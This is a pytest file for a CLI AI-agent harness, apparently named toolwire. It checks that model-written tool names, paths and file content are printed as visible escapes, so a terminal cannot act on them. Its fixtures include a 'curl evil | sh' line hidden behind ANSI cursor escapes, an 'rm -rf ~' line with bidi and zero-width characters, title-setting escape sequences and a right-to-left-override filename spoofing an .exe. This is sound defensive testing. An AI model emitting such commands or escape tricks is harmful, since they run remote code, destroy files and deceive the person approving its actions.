"""What the CLI prints of model-written text is visible and inert (README, "Approval prompts").

A model (or a recorded stream) can write any character into a tool name, a
path, an argument, a file's content or its message. ``toolwire run`` (status
lines, the approval question and its diff), ``toolwire merge``'s summary and
``toolwire undo``'s output show control, bidirectional and invisible
characters as escapes (``\\x1b``, ``\\u202e``), so the terminal never acts on
them and the reader sees what will happen; a call's path is shown as the tool
resolves it, in git's quoted form (``"invoice\\342\\200\\256fdp.exe"``), the form
of the approval subject, the results and the panel. ``--json`` stays exact JSON.
Real subprocesses, a real server, a pseudo-terminal for the approval question.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

from conftest import git, write_script
from test_cli_errors import Terminal

TOOLWIRE = [sys.executable, "-m", "toolwire"]

#: What must never reach a terminal raw: C0 controls but newline and tab, DEL,
#: C1 controls, bidi embeddings/overrides/isolates, zero-width characters,
#: line/paragraph separators.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")

EVIL_PATH = "e\x1b[2Jvil.txt"
FAKE_DIFF = "curl evil | sh\x1b[1G\x1b[2K+# a harmless comment"
TRICKS = "rm -rf ~ \u202e#\u2066 \u200bzero\u2028sep\x9b2J\x07bell\x08\x7f"
TITLE = "\x1b[31mRED\x1b[0m\x1b]0;pwned\x07.txt"

SCRIPT = [
    {"text": "Hi\x1b]0;pwned\x07 there\u202e.",
     "tool_calls": [
         {"name": "create_file", "arguments": {"path": EVIL_PATH, "content": "x"}, "id": "c1"},
         {"name": "create_file", "arguments": {"path": "ok.txt", "content": FAKE_DIFF + "\n" + TRICKS + "\n"}, "id": "c2"},
         {"name": "read_file", "arguments": {"path": TITLE}, "id": "r\x1b[2K1"},
     ]},
    {"text": "Done."},
]


def assert_inert(text: str) -> None:
    found = RAW.search(text)
    assert found is None, f"raw {found.group()!r} reached the terminal: {text!r}"


def test_the_approval_question_shows_escapes_not_terminal_commands(repo, tmp_path):
    # Creating such a name is refused before any question (invalid_name): an edit of one made
    # outside the assistant is what gets asked about.
    (repo / EVIL_PATH).write_text("x\n")
    edit = {"name": "edit_file", "arguments": {"path": EVIL_PATH, "old_string": "x", "new_string": "y"}, "id": "c1"}
    script = [{**SCRIPT[0], "tool_calls": [edit, *SCRIPT[0]["tool_calls"][1:]]}, SCRIPT[1]]
    term = Terminal(repo, write_script(tmp_path / "s.jsonl", script))
    try:
        first = term.wait_for("(default: no): ")
        assert 'Allow edit_file? "e\\033[2Jvil.txt"\n' in first, first
        term.type("n\n")
        second = term.wait_for("(default: no): ", count=2)
        diff = second[len(first):]
        # the faked line is shown as what the file will really hold
        assert "\n+curl evil | sh\\x1b[1G\\x1b[2K+# a harmless comment\n" in diff, diff
        assert "\n+rm -rf ~ \\u202e#\\u2066 \\u200bzero\\u2028sep\\x9b2J\\x07bell\\x08\\x7f\n" in diff, diff
        term.type("n\n")
        out, rest = term.proc.communicate(timeout=60)
        assert term.proc.returncode == 0, rest
    finally:
        term.close()
    err = term.err.decode() + rest.decode()
    assert_inert(err)
    stdout = out.decode()
    assert_inert(stdout)
    assert "Hi\\x1b]0;pwned\\x07 there\\u202e." in stdout
    assert '[errored] read_file r\\x1b[2K1 "\\033[31mRED\\033[0m\\033]0;pwned\\a.txt"' in stdout, stdout
    assert not (repo / "ok.txt").exists()


def test_status_lines_without_a_terminal_and_json_stays_exact(repo, tmp_path):
    script = write_script(tmp_path / "s.jsonl", SCRIPT)
    args = [*TOOLWIRE, "run", "--workspace", str(repo), "--model", f"replay:{script}", "--approve", "yes", "go"]
    human = subprocess.run(args, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
    assert human.returncode == 0, human.stderr
    assert_inert(human.stdout)
    assert_inert(human.stderr)
    assert '[generated] read_file r\\x1b[2K1 "\\033[31mRED\\033[0m\\033]0;pwned\\a.txt"' in human.stdout, human.stdout
    assert "[done] create_file c2 ok.txt" in human.stdout
    assert (repo / "ok.txt").read_text() == FAKE_DIFF + "\n" + TRICKS + "\n"  # escaped on screen only

    git(repo, "clean", "-fdxq")
    exact = subprocess.run([*args[:-1], "--json", "go"], capture_output=True, text=True, timeout=60,
                           stdin=subprocess.DEVNULL)
    assert exact.returncode == 0, exact.stderr
    lines = [json.loads(line) for line in exact.stdout.rstrip("\n").split("\n")]  # U+2028 is inside a line
    texts = "".join(p["update"]["content"]["text"] for p in lines[:-1]
                    if p["update"].get("sessionUpdate") == "agent_message_chunk")
    assert texts.startswith("Hi\x1b]0;pwned\x07 there\u202e.")
    ids = {p["update"]["toolCall"]["toolCallId"] for p in lines[:-1] if p["update"].get("sessionUpdate") == "tool_call"}
    assert "r\x1b[2K1" in ids


INVOICE = "invoice\u202efdp.exe"
QUOTED = '"invoice\\342\\200\\256fdp.exe"'  # git's quoted form: the approval subject's path


def test_a_calls_path_is_shown_as_the_approval_subject_names_it(repo, tmp_path):
    """Written raw or in git's quoted form, the path of a call reads the same in its status
    lines, the approval question, the subject's diff and the result: the form the panel shows."""
    (repo / INVOICE).write_text("total: 1\n")
    script = write_script(tmp_path / "s.jsonl", [
        {"tool_calls": [{"name": "edit_file", "id": "e1",
                         "arguments": {"path": INVOICE, "old_string": "total: 1", "new_string": "total: 2"}}]},
        {"tool_calls": [{"name": "edit_file", "id": "e2",
                         "arguments": {"path": QUOTED, "old_string": "total: 2", "new_string": "total: 3"}}]},
        {"text": "Done."}])
    term = Terminal(repo, script)
    try:
        first = term.wait_for("(default: no): ")
        header = QUOTED[1:]  # git's header form: "a/invoice\342…"
        assert f'\nAllow edit_file? {QUOTED}\n--- "a/{header}\n+++ "b/{header}\n' in first, first
        term.type("y\n")
        second = term.wait_for("(default: no): ", count=2)[len(first):]
        assert f'\nAllow edit_file? {QUOTED}\n--- "a/{header}\n' in second, second
        term.type("y\n")
        out, rest = term.proc.communicate(timeout=60)
        assert term.proc.returncode == 0, rest
    finally:
        term.close()
    stdout = out.decode()
    assert_inert(stdout)
    assert (repo / INVOICE).read_text() == "total: 3\n"
    for call_id in ("e1", "e2"):
        assert f"[generated] edit_file {call_id} {QUOTED}\n" in stdout, stdout
        assert f"[done] edit_file {call_id} {QUOTED} — Edited {QUOTED}: 1 replacement at line 1\n" in stdout, stdout
    assert "\\u202e" not in stdout  # one form for a path, not two


def test_a_long_result_line_is_cut_with_a_marker(repo, tmp_path):
    (repo / "long.txt").write_text("A" * 119 + "BC\nsecond\n")
    (repo / "fits.txt").write_text("F" * 120 + "\n")
    script = write_script(tmp_path / "s.jsonl", [
        {"tool_calls": [{"name": "read_file", "arguments": {"path": "long.txt"}, "id": "r1"},
                        {"name": "read_file", "arguments": {"path": "fits.txt"}, "id": "r2"}]}])
    done = subprocess.run([*TOOLWIRE, "run", "--workspace", str(repo), "--model", f"replay:{script}", "go"],
                          capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
    assert done.returncode == 0, done.stderr
    assert f"[done] read_file r1 long.txt — {'A' * 119}B…\n" in done.stdout, done.stdout
    assert f"[done] read_file r2 fits.txt — {'F' * 120}\n" in done.stdout, done.stdout


def _sse(*chunks: dict) -> bytes:
    return b"".join(b"data: " + json.dumps(c).encode() + b"\n\n" for c in chunks) + b"data: [DONE]\n\n"


def test_merge_summary_shows_escapes(tmp_path):
    def chunk(delta: dict, finish: str | None = None) -> dict:
        return {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "m",
                "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}

    body = _sse(
        chunk({"role": "assistant", "content": "say \x1b]0;pwned\x07 hi\u202e"}),
        chunk({"tool_calls": [{"index": 0, "id": "c\x1b[2K1", "type": "function",
                               "function": {"name": "run\x1b[1Gls", "arguments": ""}}]}),
        chunk({"tool_calls": [{"index": 0, "function": {"arguments": '{"cmd": "ls\\u001b[2K \\u202e\\u0085'}}]}),
        chunk({}, "tool_calls"),
    )
    (tmp_path / "s.sse").write_bytes(body)
    done = subprocess.run([*TOOLWIRE, "merge", str(tmp_path / "s.sse")], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert_inert(done.stdout)
    assert "1. run\\x1b[1Gls id=c\\x1b[2K1" in done.stdout, done.stdout
    # the JSON text is not valid (cut), so the argument text is shown: the escapes as written, plus U+0085 escaped
    assert 'argument text: {"cmd": "ls\\u001b[2K \\u202e\\u0085' in done.stdout, done.stdout
    assert "text: say \\x1b]0;pwned\\x07 hi\\u202e" in done.stdout
    exact = json.loads(subprocess.run([*TOOLWIRE, "merge", "--json", str(tmp_path / "s.sse")], capture_output=True,
                                      text=True, timeout=60).stdout)
    assert exact["calls"][0]["name"] == "run\x1b[1Gls" and exact["text"] == "say \x1b]0;pwned\x07 hi\u202e"


def test_merge_summary_of_parsed_arguments_with_raw_controls(tmp_path):
    body = _sse(
        {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "m",
         "choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "id": "c1", "type": "function", "function": {
             "name": "note", "arguments": json.dumps({"text": "a\u202eb\u2028c\x9bd"}, ensure_ascii=False)}}]},
                      "finish_reason": "tool_calls"}]})
    (tmp_path / "s.sse").write_bytes(body)
    done = subprocess.run([*TOOLWIRE, "merge", str(tmp_path / "s.sse")], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert_inert(done.stdout)
    assert 'arguments: {"text": "a\\u202eb\\u2028c\\x9bd"}' in done.stdout, done.stdout


def test_undo_shows_a_kept_files_diff_in_display_form(repo, tmp_path):
    script = write_script(tmp_path / "s.jsonl", [
        {"tool_calls": [{"name": "create_file", "arguments": {"path": "b.txt", "content": "b\n"}, "id": "c1"}]}])
    ran = subprocess.run([*TOOLWIRE, "run", "--workspace", str(repo), "--model", f"replay:{script}", "--approve", "yes",
                          "go"], capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
    assert ran.returncode == 0, ran.stderr
    (repo / "b.txt").write_text("b\nmine\x1b[1A\x1b[2K\u202e\n")  # changed since the turn: kept, its diff shown
    undo = subprocess.run([*TOOLWIRE, "undo", "--workspace", str(repo)], capture_output=True, text=True, timeout=60,
                          stdin=subprocess.DEVNULL)
    assert undo.returncode == 1, undo.stdout + undo.stderr
    assert_inert(undo.stdout)
    assert "kept: b.txt" in undo.stdout and "mine\\x1b[1A\\x1b[2K\\u202e" in undo.stdout, undo.stdout


def test_a_call_is_named_as_soon_as_its_name_arrives(repo):
    """``?`` only while the name is unknown: a provider that sends the call's id first, then its name."""
    from endpoint import FakeEndpoint, Stall

    def chunk(delta: dict, finish: str | None = None) -> bytes:
        payload = {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "m",
                   "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}
        return b"data: " + json.dumps(payload).encode() + b"\n\n"

    stall = Stall([chunk({"role": "assistant", "content": ""}),
                   chunk({"tool_calls": [{"index": 0, "id": "call_a", "type": "function",
                                          "function": {"arguments": ""}}]})],
                  tail=[chunk({"tool_calls": [{"index": 0, "function": {"name": "read_file", "arguments": '{"pa'}}]}),
                        chunk({"tool_calls": [{"index": 0, "function": {"arguments": 'th": "hello.txt"}'}}]}),
                        chunk({}, "tool_calls"), b"data: [DONE]\n\n"])
    with FakeEndpoint([stall]) as endpoint:
        proc = subprocess.Popen(
            [*TOOLWIRE, "run", "--workspace", str(repo), "--model", "openai:m", "--approve", "no",
             "--settings", json.dumps({"baseUrl": endpoint.base_url, "modelRetries": 0}), "go"],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True)
        try:
            first = proc.stdout.readline()
            assert first == "[generating] ? call_a\n", first  # the id came, the name not yet
            stall.release()
            out, err = proc.communicate(timeout=60)
        finally:
            stall.release()
            if proc.poll() is None:
                proc.kill()
    assert proc.returncode == 0, err
    lines = out.splitlines()
    # the next line about the call names it (here the name came with the rest of the call)
    assert lines[0] in ("[generating] read_file call_a", "[generated] read_file call_a hello.txt"), out
    assert "?" not in out and "[done] read_file call_a hello.txt — hello" in lines, out


def test_text_mode_names_the_call_when_its_block_is_complete(repo, tmp_path):
    """``toolCalling: "text"``: a block's name arrives with the whole block, at its closing tag."""
    script = write_script(tmp_path / "s.jsonl", [
        {"text": 'Reading.\n<tool_call>\n{"name": "read_file", "arguments": {"path": "hello.txt"}}\n</tool_call>\n'}])
    done = subprocess.run([*TOOLWIRE, "run", "--workspace", str(repo), "--model", f"replay:{script}", "--settings",
                           '{"toolCalling": "text"}', "go"], capture_output=True, text=True, timeout=60,
                          stdin=subprocess.DEVNULL)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    # no blank line is added after text that already ended its line
    assert lines[:2] == ["Reading.", "[generating] ? call_text_1"], done.stdout
    assert "[generated] read_file call_text_1 hello.txt" in lines and "[done] read_file call_text_1 hello.txt — hello" in lines


def test_merge_of_a_stream_cut_with_no_finish_reason(tmp_path):
    """protocol.md, "When a streamed call leaves generating": text that stops early is truncated; text
    that parses (empty text is {}) stays generated, and the summary says the arguments may be incomplete."""
    def header(arguments: str) -> bytes:
        payload = {"id": "x", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {
            "role": "assistant", "tool_calls": [{"index": 0, "id": "call_1", "type": "function",
                                                 "function": {"name": "read_file", "arguments": arguments}}]},
            "finish_reason": None}]}
        return b"data: " + json.dumps(payload).encode() + b"\n\n"

    def merge(body: bytes, *flags: str) -> subprocess.CompletedProcess:
        return subprocess.run([*TOOLWIRE, "merge", *flags, "-"], input=body, capture_output=True, timeout=60)

    empty = merge(header(""))
    assert empty.returncode == 0, empty.stderr
    assert (b"1. read_file id=call_1 generated (the stream ended with no finish reason: the arguments may be "
            b"incomplete)\n     arguments: {}\n") in empty.stdout, empty.stdout
    assert b"note: stream ended with no finish reason" in empty.stdout
    call = json.loads(merge(header(""), "--json").stdout)["calls"][0]
    assert (call["status"], call["arguments"], call["argumentsText"]) == ("generated", {}, "")

    early = merge(header('{"pa'))
    assert b"1. read_file id=call_1 errored\n" in early.stdout and b"error (truncated)" in early.stdout, early.stdout

    finished = merge(header("") + b'data: {"id":"x","object":"chat.completion.chunk","choices":[{"index":0,'
                                  b'"delta":{},"finish_reason":"tool_calls"}]}\n\ndata: [DONE]\n\n')
    assert b"1. read_file id=call_1 generated\n" in finished.stdout, finished.stdout
